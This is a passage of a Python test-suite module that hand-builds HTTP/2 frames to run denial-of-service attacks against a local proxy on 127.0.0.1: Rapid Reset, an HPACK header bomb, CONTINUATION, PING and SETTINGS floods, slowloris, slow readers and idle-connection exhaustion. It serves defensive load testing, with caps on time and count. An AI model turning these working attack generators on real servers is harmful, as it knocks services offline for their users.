#!/usr/bin/python3
"""HTTP/2 attack generators against a proxy on 127.0.0.1: raw sockets, hand-built frames, and
python3-hpack to read the server's header blocks. No grpcio here, so this file can be imported
by the test suite and the benchmark alike, and run as a program:

    /usr/bin/python3 tests/attack/attackers.py ATTACK --port N [--seconds S] [--source ADDR]
        [--conns N] [--count N] [--json FILE]

which prints (or writes) one JSON object: what the attacker sent and what it saw. The tests run
it as a child process (plain subprocess, no fork after grpcio) so that the attacker's Python
loop does not share a GIL with the well-behaved grpcio client whose latency is measured.

Every attacker is bounded twice: `seconds` (wall time of the attack) and a count (frames,
streams, connections or reconnects). Traffic goes to 127.0.0.1 only; `source` picks the local
address the attacker connects from (any 127.0.0.0/8 address), so per-address limits of the proxy
(refuse_for, address_reset_rate) hit the attacker's address and not the well-behaved client's
127.0.0.1.

Attacks (ATTACK names, the function of each, what one "unit" is):
  rapid_reset      HEADERS then RST_STREAM(CANCEL) at once; reconnects after GOAWAY/close
  hpack_bomb       one 4 KB header into the dynamic table, then ~128 KB header blocks of 1-byte
                   references to it, 5 per second; reconnects after GOAWAY/close
  continuation     HEADERS without END_HEADERS, then CONTINUATION frames of literal headers
  ping             PING frames
  settings         SETTINGS frames (each needs an ACK)
  empty_data       DATA frames with no payload and no END_STREAM on one open stream
  window_update    WINDOW_UPDATE(+1) frames on the connection
  priority         PRIORITY frames on idle streams
  slow_readers     N connections x M calls with ~256 KB replies, stream windows of 0, never read
  idle             N TCP connections that never send the preface
  slowloris_headers  request headers trickled 1 byte per 100 ms
  slowloris_body   request body 1 byte per second
  oversized_headers  header lists past max_header_list_size, then a normal request, then another
"""
from __future__ import annotations

import argparse
import collections
import errno
import json
import selectors
import socket
import struct
import sys
import time

try:
    import hpack
    HAVE_HPACK = True
except ImportError:  # the caller reports it (tests: pytest.fail with the install command)
    HAVE_HPACK = False

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, \
    CONTINUATION = range(10)
FRAME_NAMES = ["DATA", "HEADERS", "PRIORITY", "RST_STREAM", "SETTINGS", "PUSH_PROMISE", "PING",
               "GOAWAY", "WINDOW_UPDATE", "CONTINUATION"]
END_STREAM = 0x1
ACK = 0x1
END_HEADERS = 0x4
PADDED = 0x8
PRIORITY_FLAG = 0x20
CANCEL = 0x8
ENHANCE_YOUR_CALM = 0xB
SETTINGS_HEADER_TABLE_SIZE = 1
SETTINGS_MAX_CONCURRENT_STREAMS = 3
SETTINGS_INITIAL_WINDOW_SIZE = 4
SETTINGS_MAX_FRAME_SIZE = 5

HOST = "127.0.0.1"          # the only target address
SERVICE = "test.Echo"       # tests/integration/harness.py's service
OUT_HIGH_WATER = 64 * 1024  # queue more frames only while less than this waits to be sent


def frame(ftype: int, flags: int, sid: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes((ftype, flags)) + \
        struct.pack(">I", sid & 0x7FFFFFFF) + payload


def settings_payload(values: dict[int, int]) -> bytes:
    return b"".join(struct.pack(">HI", k, v) for k, v in values.items())


# ---------------------------------------------------------------------------------------------
# HPACK, by hand where the bytes matter (RFC 7541): integers, literals without indexing (so one
# block can be sent many times without touching the dynamic table), and one with indexing.
# ---------------------------------------------------------------------------------------------
def hpack_int(value: int, prefix_bits: int, first: int = 0) -> bytes:
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = [first | limit]
    value -= limit
    while value >= 128:
        out.append((value & 127) | 128)
        value >>= 7
    out.append(value)
    return bytes(out)


def literal(name: bytes, value: bytes, static_name: int = 0, indexed: bool = False) -> bytes:
    """A literal header field: without indexing (0000xxxx), or with incremental indexing
    (01xxxxxx) when `indexed`; the name by static-table index when static_name, else literal."""
    first, bits = (0x40, 6) if indexed else (0x00, 4)
    if static_name:
        out = hpack_int(static_name, bits, first)
    else:
        out = bytes([first]) + hpack_int(len(name), 7) + name
    return out + hpack_int(len(value), 7) + value


def request_block(path: str, extra: list[tuple[bytes, bytes]] = (), port: int = 0) -> bytes:
    """A gRPC request's header block that leaves the dynamic table alone: :method POST (static
    3), :scheme http (static 6), :path and :authority by static name, content-type, te."""
    b = b"\x83\x86" + literal(b"", path.encode(), static_name=4) + \
        literal(b"", f"{HOST}:{port}".encode(), static_name=1) + \
        literal(b"", b"application/grpc", static_name=31) + literal(b"te", b"trailers")
    for n, v in extra:
        b += literal(n, v)
    return b


def grpc_message(payload: bytes) -> bytes:
    return b"\x00" + len(payload).to_bytes(4, "big") + payload


def header_frames(sid: int, block: bytes, max_frame: int, end_stream: bool,
                  end_headers: bool = True) -> bytes:
    """HEADERS + CONTINUATION frames carrying `block`, each payload at most max_frame."""
    parts = [block[i:i + max_frame] for i in range(0, len(block), max_frame)] or [b""]
    out = []
    for i, part in enumerate(parts):
        last = i == len(parts) - 1
        flags = (END_HEADERS if last and end_headers else 0)
        if i == 0:
            out.append(frame(HEADERS, flags | (END_STREAM if end_stream else 0), sid, part))
        else:
            out.append(frame(CONTINUATION, flags, sid, part))
    return b"".join(out)


# ---------------------------------------------------------------------------------------------
# One raw client connection: non-blocking, an output queue, a frame reader that records what
# the server said (SETTINGS, GOAWAY, RST_STREAM, response headers when asked to decode them).
# ---------------------------------------------------------------------------------------------
class RawConn:
    def __init__(self, port: int, source: str | None = None, settings: dict | None = None,
                 decode: bool = False, preface: bool = True, connect_timeout: float = 3.0,
                 grant_data: bool = True, t0: float = 0.0):
        self.port = port
        self.t0 = t0 or time.monotonic()
        self.t_open = time.monotonic()
        self.t_closed: float | None = None
        self.closed = False
        self.how = ""                 # "eof" | "reset" | "error: ..." once closed by the peer
        self.closed_by_us = False
        self.out = bytearray()
        self.inb = bytearray()
        self.bytes_out = 0
        self.bytes_in = 0
        self.frames_in: collections.Counter[str] = collections.Counter()
        self.server_settings: dict[int, int] = {}
        self.got_settings = False
        self.goaway: tuple[int, int, bytes] | None = None   # (code, last stream id, debug)
        self.t_goaway: float | None = None
        self.resets: dict[int, int] = {}                     # stream id -> RST_STREAM code
        self.responses: dict[int, dict[str, str]] = {}      # stream id -> decoded headers
        self.ended: set[int] = set()                         # streams the server ended
        self.data_bytes: collections.Counter[int] = collections.Counter()
        self.units = 0
        self.grant_data = grant_data
        self.decoder = hpack.Decoder() if decode else None
        if self.decoder is not None:
            self.decoder.max_header_list_size = 1 << 30
            self.decoder.max_allowed_table_size = 1 << 16
        self._hblock: tuple[int, int, bytearray] | None = None  # (sid, flags, block) in progress
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if source:
            self.sock.bind((source, 0))
        self.sock.settimeout(connect_timeout)
        self.sock.connect((HOST, port))
        self.sock.setblocking(False)
        if preface:
            self.out += PREFACE + frame(SETTINGS, 0, 0, settings_payload(settings or {}))

    @property
    def open(self) -> bool:
        return not self.closed

    def fileno(self) -> int:
        return self.sock.fileno()

    def _mark_closed(self, how: str):
        if not self.closed:
            self.closed = True
            self.how = how
            self.t_closed = time.monotonic()

    def close(self):
        if not self.closed:
            self.closed_by_us = True
            self._mark_closed("closed by attacker")
        try:
            self.sock.close()
        except OSError:
            pass

    # -- output
    def pump_out(self) -> int:
        sent = 0
        while self.out and not self.closed:
            try:
                n = self.sock.send(self.out[:1 << 20])
            except (BlockingIOError, InterruptedError):
                break
            except (BrokenPipeError, ConnectionResetError) as e:
                self._drain()  # what the server said before it went (its GOAWAY)
                self._mark_closed("reset" if isinstance(e, ConnectionResetError) else "epipe")
                break
            except OSError as e:
                self._mark_closed(f"error: {e}")
                break
            del self.out[:n]
            sent += n
        self.bytes_out += sent
        return sent

    def _drain(self):
        """Reads whatever is still readable, ignoring errors (the peer has gone)."""
        got = 0
        while got < (4 << 20):
            try:
                data = self.sock.recv(1 << 18)
            except OSError:
                break
            if not data:
                break
            got += len(data)
            self.inb += data
        if got:
            self.bytes_in += got
            self._parse()

    # -- input
    def pump_in(self, limit: int = 4 << 20) -> int:
        got = 0
        while not self.closed and got < limit:
            try:
                data = self.sock.recv(1 << 18)
            except (BlockingIOError, InterruptedError):
                break
            except ConnectionResetError:
                self._mark_closed("reset")
                break
            except OSError as e:
                self._mark_closed(f"error: {e}")
                break
            if not data:
                self._mark_closed("eof")
                break
            got += len(data)
            self.inb += data
        if got:
            self.bytes_in += got
            self._parse()
        return got

    def _parse(self):
        buf = self.inb
        pos = 0
        while len(buf) - pos >= 9:
            length = int.from_bytes(buf[pos:pos + 3], "big")
            if len(buf) - pos < 9 + length:
                break
            ftype, flags = buf[pos + 3], buf[pos + 4]
            sid = int.from_bytes(buf[pos + 5:pos + 9], "big") & 0x7FFFFFFF
            payload = bytes(buf[pos + 9:pos + 9 + length])
            pos += 9 + length
            self._on_frame(ftype, flags, sid, payload)
        del buf[:pos]

    def _on_frame(self, ftype: int, flags: int, sid: int, payload: bytes):
        self.frames_in[FRAME_NAMES[ftype] if ftype < len(FRAME_NAMES) else str(ftype)] += 1
        if ftype == SETTINGS:
            if not flags & ACK:
                for i in range(0, len(payload) - 5, 6):
                    k, v = struct.unpack(">HI", payload[i:i + 6])
                    self.server_settings[k] = v
                self.got_settings = True
                self.out += frame(SETTINGS, ACK, 0)
        elif ftype == GOAWAY:
            last, code = struct.unpack(">II", payload[:8])
            if self.goaway is None:
                self.t_goaway = time.monotonic()
            self.goaway = (code, last & 0x7FFFFFFF, payload[8:])
        elif ftype == RST_STREAM:
            self.resets[sid] = struct.unpack(">I", payload[:4])[0]
        elif ftype == DATA:
            self.data_bytes[sid] += len(payload)
            if flags & END_STREAM:
                self.ended.add(sid)
            if self.grant_data and payload:
                # keep the windows open: connection and stream
                inc = struct.pack(">I", len(payload))
                self.out += frame(WINDOW_UPDATE, 0, 0, inc) + frame(WINDOW_UPDATE, 0, sid, inc)
        elif ftype in (HEADERS, CONTINUATION):
            if ftype == HEADERS:
                block = payload
                if flags & PADDED:
                    pad = block[0]
                    block = block[1:len(block) - pad]
                if flags & PRIORITY_FLAG:
                    block = block[5:]
                self._hblock = (sid, flags, bytearray(block))
            elif self._hblock is not None:
                self._hblock[2].extend(payload)
            if flags & END_HEADERS and self._hblock is not None:
                hsid, hflags, block = self._hblock
                self._hblock = None
                if self.decoder is not None:
                    try:
                        hdrs = self.decoder.decode(bytes(block), raw=False)
                    except Exception as e:  # noqa: BLE001 -- a decoding problem is a finding
                        hdrs = [("x-attacker-decode-error", repr(e))]
                    d = self.responses.setdefault(hsid, {})
                    d.update({k: v for k, v in hdrs})
                if hflags & END_STREAM:
                    self.ended.add(hsid)
        elif ftype == PING and not flags & ACK:
            self.out += frame(PING, ACK, 0, payload)

    def wait_settings(self, timeout: float = 2.0) -> bool:
        end = time.monotonic() + timeout
        while not self.got_settings and not self.closed and time.monotonic() < end:
            self.pump_out()
            self.pump_in()
            if not self.got_settings:
                time.sleep(0.002)
        return self.got_settings

    def record(self) -> dict:
        now = self.t_closed or time.monotonic()
        g = self.goaway
        return {
            "open_s": round(self.t_open - self.t0, 3),
            "lifetime_s": round(now - self.t_open, 3),
            "closed_by_peer": self.closed and not self.closed_by_us,
            "how": self.how,
            "units": self.units,
            "bytes_out": self.bytes_out,
            "bytes_in": self.bytes_in,
            "frames_in": dict(self.frames_in),
            "goaway": None if g is None else {"code": g[0], "last_stream": g[1],
                                              "debug": g[2][:200].decode("utf-8", "replace"),
                                              "after_s": round(self.t_goaway - self.t_open, 3)},
            "refused": self.closed and not self.closed_by_us and not self.frames_in,
        }


def connect(port: int, result: "Result", **kw) -> RawConn | None:
    try:
        c = RawConn(port, t0=result.t0, **kw)
    except OSError as e:
        result.connect_errors[type(e).__name__ if not e.errno else errno.errorcode.get(
            e.errno, str(e.errno))] += 1
        return None
    result.connections += 1
    return c


# ---------------------------------------------------------------------------------------------
# Results
# ---------------------------------------------------------------------------------------------
class Result:
    def __init__(self, attack: str, **params):
        self.attack = attack
        self.params = params
        self.t0 = time.monotonic()
        self.connections = 0
        self.connect_errors: collections.Counter[str] = collections.Counter()
        self.conns: list[RawConn] = []
        self.extra: dict = {}

    def add(self, c: RawConn | None):
        if c is not None:
            self.conns.append(c)

    def to_dict(self) -> dict:
        recs = [c.record() for c in self.conns]
        goaways = collections.Counter(r["goaway"]["code"] for r in recs if r["goaway"])
        debug = sorted({r["goaway"]["debug"] for r in recs if r["goaway"]
                        and r["goaway"]["debug"]})[:5]
        first_goaway = [r["goaway"]["after_s"] + r["open_s"] for r in recs if r["goaway"]]
        resets = collections.Counter(code for c in self.conns for code in c.resets.values())
        statuses = collections.Counter(
            d.get("grpc-status", "none") for c in self.conns for d in c.responses.values())
        out = {
            "attack": self.attack,
            "params": self.params,
            "duration_s": round(time.monotonic() - self.t0, 3),
            "connections": self.connections,
            "connect_errors": dict(self.connect_errors),
            "units": sum(c.units for c in self.conns),
            "bytes_out": sum(c.bytes_out for c in self.conns),
            "bytes_in": sum(c.bytes_in for c in self.conns),
            "goaways": {str(k): v for k, v in goaways.items()},
            "goaway_debug": debug,
            "first_goaway_s": round(min(first_goaway), 3) if first_goaway else None,
            "closed_by_peer": sum(1 for r in recs if r["closed_by_peer"]),
            "refused": sum(1 for r in recs if r["refused"]),
            "resets_received": {str(k): v for k, v in resets.items()},
            "grpc_statuses": dict(statuses),
            "units_first_conn": recs[0]["units"] if recs else 0,
            "first_conn": recs[0] if recs else None,
        }
        # never closed by the server before the attacker let go
        out["still_open"] = sum(1 for c in self.conns if not (c.closed and not c.closed_by_us))
        out.update(self.extra)
        return out


def finish(result: Result, conns: list[RawConn], linger: float = 0.5) -> dict:
    """Reads what the server still has to say for `linger` seconds, then closes everything."""
    end = time.monotonic() + linger
    while time.monotonic() < end and any(c.open for c in conns):
        for c in conns:
            if c.open:
                c.pump_out()
                c.pump_in()
        time.sleep(0.01)
    for c in conns:
        c.close()
    return result.to_dict()


# ---------------------------------------------------------------------------------------------
# The flood engine: `conns` connections, each fed units while its output queue is short.
# ---------------------------------------------------------------------------------------------
def flood(name: str, port: int, make_units, *, conns: int = 1, seconds: float = 4.0,
          max_units: int = 100_000, batch: int = 50, source: str | None = None,
          reconnect: bool = True, max_connects: int = 200, on_open=None, decode: bool = False,
          settings: dict | None = None, pace: float = 0.0, **params) -> dict:
    """make_units(conn, k) -> bytes of k units for conn (conn.units says how many it had).
    on_open(conn) -> bytes sent once after the preface. pace: seconds between batches per
    connection (0: as fast as the peer reads)."""
    result = Result(name, conns=conns, seconds=seconds, max_units=max_units, source=source,
                    **params)
    end = result.t0 + seconds
    live: list[RawConn | None] = []

    def open_one() -> RawConn | None:
        if result.connections >= max_connects:
            return None
        c = connect(port, result, source=source, decode=decode, settings=settings)
        if c is not None:
            result.add(c)
            c.next_batch = 0.0
            if on_open:
                # the SETTINGS ACK first: no frame may sit inside a header block the opener
                # leaves open (CONTINUATION flood)
                c.wait_settings(1.0)
                c.out += on_open(c)
        return c

    def unsent(c: RawConn) -> int:
        """Units still queued when c closed: never sent, so not counted."""
        return min(c.units, len(c.out) // c.unit_len) if getattr(c, "unit_len", 0) else 0

    for _ in range(conns):
        live.append(open_one())
    units = 0
    next_retry = [0.0] * conns
    sel = selectors.DefaultSelector()
    while time.monotonic() < end and units < max_units:
        wrote = False
        now = time.monotonic()
        for i, c in enumerate(live):
            if c is None or c.closed:
                if c is not None:
                    lost = unsent(c)
                    c.units -= lost
                    units -= lost
                    c.close()
                    live[i] = None
                if reconnect and now >= next_retry[i]:
                    live[i] = c = open_one()
                    # refused at once (refuse_for): do not spin; try again in 20 ms
                    next_retry[i] = now + 0.02
                if c is None:
                    continue
            c.pump_in()
            if c.closed:
                continue
            if len(c.out) < OUT_HIGH_WATER and units < max_units and now >= c.next_batch:
                k = min(batch, max_units - units)
                chunk = make_units(c, k)
                c.unit_len = max(1, len(chunk) // k)
                c.out += chunk
                c.units += k
                units += k
                c.next_batch = now + pace
            if c.pump_out():
                wrote = True
        if not wrote:
            # everything is queued behind a peer that does not read, or paced: wait a little
            socks = [c for c in live if c is not None and c.open]
            if not socks:
                time.sleep(0.01)
                continue
            for c in socks:
                sel.register(c.sock, selectors.EVENT_READ | (selectors.EVENT_WRITE if c.out
                                                             else 0), c)
            sel.select(0.005 if not pace else min(pace, 0.01))
            for c in socks:
                sel.unregister(c.sock)
    sel.close()
    rest = [c for c in live if c is not None]
    for c in rest:  # what is still queued when the attack ends is never sent
        c.units -= unsent(c)
        del c.out[:]
    return finish(result, rest)


# ---------------------------------------------------------------------------------------------
# The attacks
# ---------------------------------------------------------------------------------------------
UNARY = f"/{SERVICE}/Unary"
STREAM = f"/{SERVICE}/ServerStream"


def rapid_reset(port: int, conns: int = 1, seconds: float = 4.0, count: int = 100_000,
                source: str | None = None) -> dict:
    """HEADERS (a gRPC request, no END_STREAM) then RST_STREAM(CANCEL) at once, thousands per
    connection; after a GOAWAY or a close, a new connection. count: streams in all."""
    def units(c: RawConn, k: int) -> bytes:
        block = request_block(UNARY, port=port)
        out = []
        for _ in range(k):
            sid = getattr(c, "sid", -1) + 2
            c.sid = sid
            out.append(frame(HEADERS, END_HEADERS, sid, block))
            out.append(frame(RST_STREAM, 0, sid, struct.pack(">I", CANCEL)))
        return b"".join(out)

    return flood("rapid_reset", port, units, conns=conns, seconds=seconds, max_units=count,
                 batch=100, source=source, max_connects=conns * 50)


def ping_flood(port: int, seconds: float = 4.0, count: int = 200_000,
               source: str | None = None, conns: int = 1) -> dict:
    def units(c, k):
        return b"".join(frame(PING, 0, 0, struct.pack(">Q", c.units + i)) for i in range(k))
    return flood("ping", port, units, conns=conns, seconds=seconds, max_units=count, batch=200,
                 source=source, max_connects=20)


def settings_flood(port: int, seconds: float = 4.0, count: int = 200_000,
                   source: str | None = None, conns: int = 1) -> dict:
    f = frame(SETTINGS, 0, 0, settings_payload({SETTINGS_INITIAL_WINDOW_SIZE: 65535}))
    return flood("settings", port, lambda c, k: f * k, conns=conns, seconds=seconds,
                 max_units=count, batch=200, source=source, max_connects=20)


def empty_data_flood(port: int, seconds: float = 4.0, count: int = 200_000,
                     source: str | None = None, conns: int = 1) -> dict:
    """One open request stream (headers, no END_STREAM), then DATA frames with no payload."""
    f = frame(DATA, 0, 1, b"")
    return flood("empty_data", port, lambda c, k: f * k, conns=conns, seconds=seconds,
                 max_units=count, batch=200, source=source, max_connects=20,
                 on_open=lambda c: frame(HEADERS, END_HEADERS, 1, request_block(UNARY, port=port)))


def window_update_flood(port: int, seconds: float = 4.0, count: int = 200_000,
                        source: str | None = None, conns: int = 1) -> dict:
    """WINDOW_UPDATE(+1) on the connection: a bounded count keeps the window far from 2^31."""
    f = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))
    return flood("window_update", port, lambda c, k: f * k, conns=conns, seconds=seconds,
                 max_units=min(count, 1_000_000), batch=200, source=source, max_connects=20)


def priority_flood(port: int, seconds: float = 4.0, count: int = 200_000,
                   source: str | None = None, conns: int = 1) -> dict:
    """PRIORITY frames on idle (never opened) client streams, a new stream id each time."""
    def units(c, k):
        out = []
        for _ in range(k):
            sid = getattr(c, "sid", -1) + 2
            c.sid = sid if sid < 0x7FFFFFF0 else 1
            out.append(frame(PRIORITY, 0, c.sid, struct.pack(">IB", 0, 15)))
        return b"".join(out)
    return flood("priority", port, units, conns=conns, seconds=seconds, max_units=count,
                 batch=200, source=source, max_connects=20)


def continuation_flood(port: int, seconds: float = 4.0, count: int = 50_000,
                       source: str | None = None, conns: int = 1) -> dict:
    """HEADERS (no END_HEADERS) opening a request, then CONTINUATION frames of ~16 KB, each
    full of 1 KB literal headers (never END_HEADERS). count: CONTINUATION frames."""
    hdr = literal(b"x-flood", b"c" * 1000)
    payload = hdr * (16000 // len(hdr))
    f = frame(CONTINUATION, 0, 1, payload)
    return flood("continuation", port, lambda c, k: f * k, conns=conns, seconds=seconds,
                 max_units=count, batch=8, source=source, max_connects=20,
                 on_open=lambda c: frame(HEADERS, END_STREAM, 1, request_block(UNARY, port=port)),
                 frame_bytes=len(f))


def hpack_bomb(port: int, seconds: float = 4.0, count: int = 100, source: str | None = None,
               per_second: float = 5.0, block_kib: int = 128, conns: int = 1) -> dict:
    """Stream 1 inserts one large header (as large as the server's header table allows, at most
    4,000 bytes of value) into the dynamic table; then every 1/per_second s a new request whose
    header block is ~block_kib KiB of 1-byte indexed references to it (each decodes to ~4 KB:
    128 KiB of references is ~512 MB of headers). count: bomb blocks in all. After a GOAWAY or a
    close: a new connection (with a new insertion), at most 50."""
    result = Result("hpack_bomb", seconds=seconds, count=count, per_second=per_second,
                    block_kib=block_kib, source=source)
    end = result.t0 + seconds
    bombs = 0
    sent_at: list[tuple[RawConn, int, float]] = []
    c: RawConn | None = None
    notes: list[str] = []
    next_bomb = time.monotonic()
    while time.monotonic() < end and bombs < count:
        if c is None or c.closed:
            if c is not None:
                c.close()
            if result.connections >= 50:
                break
            c = connect(port, result, source=source, decode=True)
            if c is None:
                time.sleep(0.05)
                continue
            result.add(c)
            c.pump_out()
            if not c.wait_settings(2.0):
                notes.append(f"conn {result.connections}: no server SETTINGS within 2 s "
                             f"({c.how or 'still open'})")
                time.sleep(0.02)
                continue
            table = c.server_settings.get(SETTINGS_HEADER_TABLE_SIZE, 4096)
            c.max_frame = c.server_settings.get(SETTINGS_MAX_FRAME_SIZE, 16384)
            vlen = min(4000, table - 32 - len(b"x-bomb"))
            if vlen < 64:
                notes.append(f"server header table size {table}: nothing to bomb with")
                result.extra["defused_table_size"] = table
                break
            c.value_len = vlen
            c.sid = 1
            ins = request_block(UNARY, port=port) + literal(b"x-bomb", b"b" * vlen, indexed=True)
            c.out += frame(HEADERS, END_HEADERS, 1, ins)
            c.out += frame(DATA, END_STREAM, 1, grpc_message(b"insert"))
            c.pump_out()
        now = time.monotonic()
        if now >= next_bomb:
            c.sid += 2
            # the dynamic table's newest entry is index 62; 0x80 | 62 is one byte
            block = request_block(UNARY, port=port) + bytes([0x80 | 62]) * (block_kib * 1024)
            c.out += header_frames(c.sid, block, c.max_frame, end_stream=True)
            c.units += 1
            bombs += 1
            sent_at.append((c, c.sid, now))
            next_bomb = now + 1.0 / per_second
        c.pump_out()
        c.pump_in()
        time.sleep(0.002)
    conns_ = [x for x in result.conns if x.open]
    out_sids = [(x, sid, t) for x, sid, t in sent_at]
    d = finish(result, conns_, linger=0.5)
    # what happened to each bomb, in order: grpc-status, RST_STREAM code, or nothing
    outcomes = []
    for x, sid, t in out_sids:
        ci = result.conns.index(x)
        if sid in x.responses:
            r = x.responses[sid]
            outcomes.append({"conn": ci, "sid": sid, "grpc_status": r.get("grpc-status"),
                             "status": r.get(":status"),
                             "grpc_message": (r.get("grpc-message") or "")[:120]})
        elif sid in x.resets:
            outcomes.append({"conn": ci, "sid": sid, "rst_stream": x.resets[sid]})
        else:
            g = x.goaway
            outcomes.append({"conn": ci, "sid": sid, "none": True,
                             "after_goaway": bool(g and sid > g[1])})
    d["bombs"] = outcomes
    d["notes"] = notes
    d["value_len"] = getattr(result.conns[0], "value_len", None) if result.conns else None
    return d


def oversized_headers(port: int, seconds: float = 3.0, count: int = 10,
                      source_base: str = "127.0.0.", source_first: int = 20,
                      size_kib: int = 80, pause: float = 0.3) -> dict:
    """Rounds, each on a new connection from its own source address (so an abuse GOAWAY's
    refuse_for does not stop the next round): a request whose header list is size_kib KiB
    (8 KB headers, past a 64 KiB max_header_list_size), then a normal request on the same
    connection, then a second oversized one. count: rounds."""
    result = Result("oversized_headers", seconds=seconds, rounds=count, size_kib=size_kib)
    end = result.t0 + seconds
    rounds = []
    big = [(f"x-big-{i}".encode(), b"o" * 8000) for i in range(size_kib * 1024 // 8032 + 1)]
    i = 0
    while time.monotonic() < end and i < count:
        src = f"{source_base}{source_first + i}"
        i += 1
        c = connect(port, result, source=src, decode=True)
        if c is None:
            rounds.append({"source": src, "error": "connect failed"})
            continue
        result.add(c)
        c.pump_out()
        c.wait_settings(2.0)
        mf = c.server_settings.get(SETTINGS_MAX_FRAME_SIZE, 16384)
        rnd = {"source": src}

        def ask(sid: int, block: bytes, wait: float = 2.0) -> dict:
            c.out += header_frames(sid, block, mf, end_stream=False)
            c.out += frame(DATA, END_STREAM, sid, grpc_message(b"hello"))
            t = time.monotonic()
            while time.monotonic() - t < wait and c.open and sid not in c.ended \
                    and sid not in c.resets and c.goaway is None:
                c.pump_out()
                c.pump_in()
                time.sleep(0.002)
            c.pump_in()
            r = {"grpc_status": c.responses.get(sid, {}).get("grpc-status"),
                 "grpc_message": (c.responses.get(sid, {}).get("grpc-message") or "")[:120],
                 "rst_stream": c.resets.get(sid),
                 "goaway": None if c.goaway is None else c.goaway[0],
                 "closed": c.closed, "ms": round((time.monotonic() - t) * 1000, 1)}
            return r

        rnd["first"] = ask(1, request_block(UNARY, big, port=port))
        rnd["normal"] = ask(3, request_block(UNARY, port=port)) if c.open else None
        rnd["second"] = ask(5, request_block(UNARY, big, port=port)) if c.open else None
        c.units = 2
        rounds.append(rnd)
        c.close()
        time.sleep(pause)
    d = finish(result, [], linger=0)
    d["rounds"] = rounds
    return d


def slow_readers(port: int, conns: int = 2, calls: int = 500, seconds: float = 5.0,
                 reply: int = 250_000, source: str | None = None) -> dict:
    """conns connections, each with `calls` server-streaming calls of one `reply`-byte message
    (harness.Backend's ServerStream), advertising a stream window of 0 and never granting a
    byte: ringlb can send headers, nothing else. Held for `seconds`, the socket read (to see
    RST_STREAM and GOAWAY) but nothing acknowledged."""
    result = Result("slow_readers", conns=conns, calls=calls, seconds=seconds, reply=reply,
                    source=source)
    end = result.t0 + seconds
    live = []
    for ci in range(conns):
        c = connect(port, result, source=source, decode=True, grant_data=False,
                    settings={SETTINGS_INITIAL_WINDOW_SIZE: 0})
        if c is None:
            continue
        result.add(c)
        live.append(c)
        c.wait_settings(2.0)
        mf = c.server_settings.get(SETTINGS_MAX_FRAME_SIZE, 16384)
        sid = 1
        for k in range(calls):
            body = json.dumps({"id": f"slow-{ci}-{k}", "count": 1, "size": reply}).encode()
            c.out += header_frames(sid, request_block(STREAM, port=port), mf, end_stream=False)
            c.out += frame(DATA, END_STREAM, sid, grpc_message(body))
            sid += 2
            c.units += 1
        c.pump_out()
    while time.monotonic() < end and any(c.open for c in live):
        for c in live:
            c.pump_out()
            c.pump_in()
        time.sleep(0.01)
    d = finish(result, live, linger=0.0)
    d["answered"] = sum(1 for c in live for s in c.responses)
    d["data_bytes"] = sum(sum(c.data_bytes.values()) for c in live)
    return d


def idle_connections(port: int, count: int = 3000, seconds: float = 5.0,
                     source: str | None = None, hold_until_closed: bool = True) -> dict:
    """count TCP connections that never send a byte. Held until the server closes them all, or
    `seconds` from the start. Reports when each was closed after it was opened."""
    result = Result("idle", count=count, seconds=seconds, source=source)
    end = result.t0 + seconds
    live: list[RawConn] = []
    sel = selectors.DefaultSelector()
    for _ in range(count):
        if time.monotonic() >= end:
            break
        c = connect(port, result, source=source, preface=False)
        if c is None:
            continue
        result.add(c)
        live.append(c)
        sel.register(c.sock, selectors.EVENT_READ, c)
    result.extra["connect_s"] = round(time.monotonic() - result.t0, 3)
    print(f"idle: {len(live)} connections open after {result.extra['connect_s']} s",
          file=sys.stderr, flush=True)
    while time.monotonic() < end:
        if hold_until_closed and all(c.closed for c in live):
            break
        for key, _ in sel.select(0.05):
            c = key.data
            c.pump_in()
            if c.closed:
                sel.unregister(c.sock)
    sel.close()
    lat = sorted(c.t_closed - c.t_open for c in live if c.closed and not c.closed_by_us)
    d = finish(result, live, linger=0)
    if lat:
        d["close_after_s"] = {"min": round(lat[0], 3), "median": round(lat[len(lat) // 2], 3),
                              "max": round(lat[-1], 3)}
    return d


def slowloris_headers(port: int, conns: int = 100, seconds: float = 5.0,
                      interval: float = 0.1, source: str | None = None) -> dict:
    """conns connections; each sends the preface and SETTINGS whole, then one HEADERS frame
    (END_HEADERS, END_STREAM, ~150 bytes with a padding header) 1 byte every `interval` s."""
    result = Result("slowloris_headers", conns=conns, seconds=seconds, interval=interval,
                    source=source)
    live = []
    for _ in range(conns):
        c = connect(port, result, source=source)
        if c is None:
            continue
        result.add(c)
        live.append(c)
        c.wait_settings(1.0)  # its SETTINGS ACK goes out whole, before the trickle
        block = request_block(UNARY, [(b"x-slow", b"s" * 60)], port=port)
        c.trickle = bytearray(frame(HEADERS, END_HEADERS | END_STREAM, 1, block))
        c.t_first_byte = None
    end = time.monotonic() + seconds
    next_tick = time.monotonic()
    while time.monotonic() < end and any(c.open for c in live):
        now = time.monotonic()
        if now >= next_tick:
            for c in live:
                if c.open and c.trickle and not c.out:
                    c.out += c.trickle[:1]
                    del c.trickle[:1]
                    c.units += 1
                    if c.t_first_byte is None:
                        c.t_first_byte = now
            next_tick = now + interval
        for c in live:
            if c.open:
                c.pump_out()
                c.pump_in()
        time.sleep(0.005)
    lat = sorted(c.t_closed - c.t_first_byte for c in live
                 if c.closed and c.t_first_byte is not None)
    completed = sum(1 for c in live if not c.trickle)
    d = finish(result, live, linger=0)
    d["completed_header_blocks"] = completed
    if lat:
        d["close_after_first_byte_s"] = {"min": round(lat[0], 3),
                                         "median": round(lat[len(lat) // 2], 3),
                                         "max": round(lat[-1], 3)}
    return d


def slowloris_body(port: int, conns: int = 100, seconds: float = 5.0, interval: float = 1.0,
                   source: str | None = None) -> dict:
    """conns connections; each sends a complete gRPC request header block (no END_STREAM) and
    then its body, a gRPC message announced as 100 bytes, 1 byte every `interval` s in DATA
    frames of one byte. Reports when the server ended the stream or the connection after the
    headers."""
    result = Result("slowloris_body", conns=conns, seconds=seconds, interval=interval,
                    source=source)
    live = []
    for _ in range(conns):
        c = connect(port, result, source=source, decode=True)
